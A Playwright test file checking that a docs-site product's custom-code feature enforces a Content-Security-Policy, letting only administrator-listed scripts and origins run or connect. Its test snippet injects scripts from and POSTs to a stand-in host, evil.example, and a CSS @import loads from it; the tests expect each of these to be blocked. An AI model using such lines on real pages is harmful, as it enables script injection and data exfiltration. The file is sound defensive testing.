import { randomBytes } from "node:crypto";
import { expect, type Page } from "playwright/test";
import { expectAccessible, rest, startSession } from "./console";
import { makeSite, makeSpace } from "./sites";
import { test } from "./test";

const LISTED = "https://analytics.example/script.js";
const UNLISTED = "https://analytics.example/other.js";
const SENT = "https://api.example/event";
const SNIPPET = `window.ran = ["snippet"];
for (const src of ["${UNLISTED}", "https://evil.example/x.js"]) document.body.append(Object.assign(document.createElement("script"), { src }));
document.body.append(Object.assign(document.createElement("script"), { text: "ran.push('inline')" }));
for (const url of ["${SENT}", "https://evil.example/take"]) fetch(url, { method: "POST", mode: "no-cors" }).catch(() => undefined);`;
const CODE = {
  enabled: true,
  css: ".title h1 { color: rgb(1, 2, 3) }",
  snippet: SNIPPET,
  scripts: [{ url: LISTED, data: { domain: "docs.example" } }],
  sources: { connect: ["https://api.example"] },
};

/** Gives a site a custom domain, and returns the site's URL there. */
async function giveHost(page: Page, path: string): Promise<string> {
  const hostname = `docs-${randomBytes(6).toString("hex")}.sites.example`;
  await rest(page, "PATCH", path, { hostname });
  const host = async () =>
    (await rest<{ scriptHost: string | null }>(page, "GET", `${path}/custom-code`)).scriptHost;
  await expect.poll(host).toBe(hostname);
  return `http://${hostname}:${new URL(process.env.E2E_ADDRESS ?? "").port}/`;
}

/** Answers requests to other hosts. Returns the URLs of these requests, and the reports of blocked requests. */
async function watchOthers(page: Page) {
  const asked: string[] = [];
  const blocked: string[] = [];
  await page.route(/^https:\/\/(analytics|api|evil)\.example\//, (route) => {
    asked.push(route.request().url());
    const body = "window.ran?.push('script ' + document.currentScript.dataset.domain)";
    return route.fulfill({ contentType: "text/javascript", body });
  });
  await page.exposeFunction("reportBlocked", (report: string) => blocked.push(report));
  await page.addInitScript(() =>
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
      (window as unknown as { reportBlocked(report: string): void }).reportBlocked(
        `${effectiveDirective} ${blockedURI}`,
      ),
    ),
  );
  return { asked, blocked };
}

const ranOn = (page: Page) => page.evaluate(() => (window as unknown as { ran?: string[] }).ran);
const color = (page: Page) =>
  page
    .locator("h1")
    .first()
    .evaluate((title) => getComputedStyle(title).color);

test("on a custom domain, browsers run exactly the code that an administrator listed", async ({ page }) => {
  const { path } = await makeSite(page, "Scripted", [await makeSpace(page, "Scripted", "Words.")]);
  const site = await giveHost(page, path);
  await rest(page, "PATCH", `${path}/custom-code`, CODE);
  const { asked, blocked } = await watchOthers(page);
  await page.goto(site);
  await expect.poll(() => ranOn(page)).toEqual(["snippet", "script docs.example"]);
  expect(await color(page)).toBe("rgb(1, 2, 3)");
  await expect
    .poll(() => [...blocked].sort())
    .toEqual([
      "connect-src https://evil.example/take",
      `script-src-elem ${UNLISTED}`,
      "script-src-elem https://evil.example/x.js",
      "script-src-elem inline",
    ]);
  expect(asked.sort()).toEqual([LISTED, SENT]);

  await rest(page, "PATCH", `${path}/custom-code`, { enabled: false });
  asked.length = 0;
  blocked.length = 0;
  await page.reload();
  await expect(page.getByText("Words.")).toBeVisible();
  expect([await ranOn(page), asked, blocked]).toEqual([undefined, [], []]);
  expect(await color(page)).not.toBe("rgb(1, 2, 3)");
});

test("on Bindery's own host, only the CSS of custom code has an effect", async ({ page }) => {
  const { path, address } = await makeSite(page, "Styled", [await makeSpace(page, "Styled", "Words.")]);
  await rest(page, "PATCH", `${path}/custom-code`, {
    ...CODE,
    css: `@import url("https://evil.example/x.css");${CODE.css}`,
  });
  const { asked, blocked } = await watchOthers(page);
  await startSession(page);
  for (const shown of [address, `/preview/${path.split("/").at(-1)}/`]) {
    await page.goto(shown);
    await expect(page.getByText("Words.")).toBeVisible();
    expect(await color(page)).toBe("rgb(1, 2, 3)");
    expect([await ranOn(page), asked]).toEqual([undefined, []]);
    await expect.poll(() => blocked.splice(0)).toEqual(["style-src-elem https://evil.example/x.css"]);
  }
});

test("an administrator adds custom code in the console", async ({ page }) => {
  const { path } = await makeSite(page, "Edited", [await makeSpace(page, "Edited", "Words.")]);
  const site = await giveHost(page, path);
  await startSession(page);
  await page.goto(path);
  await expect(page.getByRole("heading", { name: "Custom code is off" })).toBeVisible();
  await page.getByRole("button", { name: "Edit custom code" }).press("Enter");
  const dialog = page.getByRole("dialog", { name: "Edit custom code" });
  const turnOn = dialog.getByRole("checkbox", { name: "Turn on custom code" });
  await expect(turnOn).toBeFocused();
  await expect(turnOn).toHaveAccessibleDescription(/read everything that visitors see and enter/);
  await turnOn.press("Space");
  await dialog.getByLabel("CSS", { exact: true }).fill(CODE.css);
  await dialog.getByLabel("JavaScript").fill("<script>start()</script>");
  const scripts = dialog.getByLabel("Scripts", { exact: true });
  const save = dialog.getByRole("button", { name: "Save custom code" });
  for (const [text, problem] of [
    ["<script>inline()</script>", "needs a src attribute"],
    [`<script src="${LISTED}" type="module"></script>`, "the attribute type"],
    [`<script src="${LISTED}"></script><img src="x">`, "Enter only script tags"],
  ]) {
    await scripts.fill(text ?? "");
    await save.click();
    await expect(dialog.getByRole("alert")).toContainText(problem ?? "");
  }
  await scripts.fill(
    `<script async src="${LISTED}" data-domain="docs.example"></script>\nhttp://a.example/x.js`,
  );
  await save.click();
  await expect(dialog.getByRole("alert")).toContainText("Enter only script tags or URLs");
  await scripts.fill(
    `<script async src="${LISTED}" data-domain="docs.example"></script>\nhttps://a.example/js/`,
  );
  await dialog.getByLabel("Connection origins").fill("https://api.example\n*");
  await save.click();
  await expect(dialog.getByText("JavaScript must be JavaScript without HTML")).toBeVisible();
  await expect(dialog.getByText("Scripts (item 2)")).toBeVisible();
  await expect(dialog.getByText("Connection origins (item 2)")).toBeVisible();
  await expectAccessible(page);
  await dialog.getByLabel("JavaScript").fill("window.ran = []");
  await scripts.fill(`<script async src="${LISTED}" data-domain="docs.example"></script>`);
  await dialog.getByLabel("Connection origins").fill("https://api.example");
  await save.click();
  await expect(page.getByRole("heading", { name: "Custom code is on" })).toBeVisible();
  const policy = page.getByRole("list", { name: "Content-Security-Policy" });
  await expect(policy.getByRole("listitem")).toHaveText([
    /^script-src 'sha256-[\w+/]{43}=' https:\/\/analytics\.example\/script\.js$/,
    "connect-src https://api.example",
  ]);
  await expectAccessible(page);

  const { asked } = await watchOthers(page);
  await page.goto(site);
  await expect.poll(() => ranOn(page)).toEqual(["script docs.example"]);
  expect(asked).toEqual([LISTED]);
});
